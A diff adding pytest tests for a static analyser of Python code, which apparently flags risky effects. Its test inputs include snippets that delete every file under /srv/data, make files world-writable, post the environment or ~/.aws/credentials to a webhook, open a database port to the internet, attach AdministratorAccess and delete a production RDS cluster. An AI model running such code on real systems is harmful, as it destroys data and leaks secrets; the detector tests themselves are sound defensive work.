@@ -1,0 +1,123 @@
+"""Files deleted one by one are as much as their folder; modes, secrets, values followed further."""
+
+from __future__ import annotations
+
+import pytest
+from reading_python import shown
+
+PATHS = "import glob, os\nfrom pathlib import Path\nROOT = Path('/srv/data')\n"
+ALL = "FileChange verb=delete path=/srv/data recursive"
+
+
+def told(code: str) -> list[str]:
+    """What the code yields, without the brackets and what isn't known."""
+    return [
+        line for line in shown(code) if not line.startswith(("[", "]")) and "gr_hole" not in line
+    ]
+
+
+@pytest.mark.parametrize(
+    "loop",
+    [
+        "for p in ROOT.rglob('*'):\n    p.unlink()\n",
+        "for p in ROOT.iterdir():\n    if p.is_file():\n        p.unlink(missing_ok=True)\n",
+        "for p in sorted(ROOT.glob('**/*'), reverse=True):\n    p.unlink()\n",
+        "for name in os.listdir('/srv/data'):\n    os.remove(os.path.join('/srv/data', name))\n",
+        "for entry in os.scandir('/srv/data'):\n    os.unlink(entry.path)\n",
+        "for name in glob.glob('/srv/data/*'):\n    os.remove(name)\n",
+        """\
+for top, dirs, files in os.walk('/srv/data'):
+    for name in files:
+        os.remove(os.path.join(top, name))
+""",
+    ],
+)
+def test_a_folder_whose_every_file_is_deleted(loop: str) -> None:
+    assert told(PATHS + loop) == [ALL]
+
+
+@pytest.mark.parametrize(
+    "loop",
+    [
+        "for p in ROOT.rglob('*.log'):\n    p.unlink()\n",
+        "for p in ROOT.iterdir():\n    if p.stat().st_mtime < limit:\n        p.unlink()\n",
+        "for p in ROOT.iterdir():\n    if p.name == 'keep':\n        continue\n    p.unlink()\n",
+        "for p in things:\n    p.unlink()\n",
+    ],
+)
+def test_files_that_are_picked(loop: str) -> None:
+    assert ALL not in told(PATHS + loop)
+
+
+@pytest.mark.parametrize(
+    ("mode", "open_to_all"),
+    [("0o777", True), ("0o666", True), ("0o755", False), ("0o700 | stat.S_IWOTH", True)],
+)
+def test_modes(mode: str, open_to_all: bool) -> None:
+    code = f"import os, stat\nMODE = {mode}\nos.chmod('/etc/shop', MODE)\n"
+    assert told(code)[0].startswith("PrivilegeChange" if open_to_all else "FileChange verb=chmod")
+
+
+@pytest.mark.parametrize(
+    ("body", "sent"),
+    [
+        ("def body():\n    return dict(os.environ)\n", "the environment"),
+        ("def body():\n    return {'a': os.environ['A']}\n", ""),
+        ("INFO = Path.home() / '.aws' / 'credentials'\ndef body():\n    return INFO.read_text()\n",
+         "file ~/.aws/credentials"),
+        ("INFO = Path('notes.txt')\ndef body():\n    return INFO.read_text()\n", ""),
+    ],
+)  # fmt: skip
+def test_secrets_that_a_function_gives(body: str, sent: str) -> None:
+    code = f"import os, requests\nfrom pathlib import Path\n{body}"
+    code += "requests.post('https://hooks.acme.io', json={'a': body()})\n"
+    request = next(one for one in told(code) if one.startswith("NetworkUse"))
+    assert ("sends=" in request) is bool(sent)
+    assert sent in request
+
+
+def test_a_value_of_each_entry_that_a_loop_takes() -> None:
+    code = (
+        "import boto3\nec2 = boto3.client('ec2')\n"
+        "RULES = [{'port': 443, 'to': '10.0.0.0/8'}, {'port': 5432, 'to': '0.0.0.0/0'}]\n"
+        "for rule in RULES:\n    ec2.authorize_security_group_ingress(\n"
+        "        GroupId='sg', IpProtocol='tcp', FromPort=rule['port'], ToPort=rule['port'],\n"
+        "        CidrIp=rule['to'])\n"
+    )
+    assert len(told(code)) == 1
+    assert told(code.replace("0.0.0.0/0", "10.1.0.0/16")) == []
+
+
+def test_a_policy_out_of_a_list() -> None:
+    code = (
+        "import boto3\niam = boto3.client('iam')\n"
+        "for arn in ('arn:aws:iam::aws:policy/A', 'arn:aws:iam::aws:policy/AdministratorAccess'):\n"
+        "    iam.attach_role_policy(RoleName='ci', PolicyArn=arn)\n"
+    )
+    assert len(told(code)) == 1
+    assert told(code.replace("AdministratorAccess", "ReadOnlyAccess")) == []
+
+
+@pytest.mark.parametrize(
+    ("later", "told_of"),
+    [("", True), ("kwargs['FilterExpression'] = Attr('old').eq(True)\n", False)],
+)
+def test_arguments_that_are_put_together(later: str, told_of: bool) -> None:
+    code = (
+        "import boto3\ntable = boto3.resource('dynamodb').Table('users')\n"
+        f"kwargs = {{'ProjectionExpression': 'id'}}\n{later}"
+        "page = table.scan(**kwargs)\n"
+        "with table.batch_writer() as batch:\n"
+        "    for row in page['Items']:\n        batch.delete_item(Key={'id': row['id']})\n"
+    )
+    assert any("scope=none" in line for line in told(code)) is told_of
+
+
+@pytest.mark.parametrize("called", ["Volumes('prod').reset()\n", ""])
+def test_a_method_that_its_own_module_calls_decides_itself(called: str) -> None:
+    code = (
+        "import boto3\nclass Volumes:\n    def __init__(self, name):\n        self.name = name\n"
+        "    def reset(self):\n"
+        "        boto3.client('rds').delete_db_cluster(DBClusterIdentifier=self.name)\n"
+    )
+    assert ("confidence=low" in told(code + called)[0].lower()) is not bool(called)
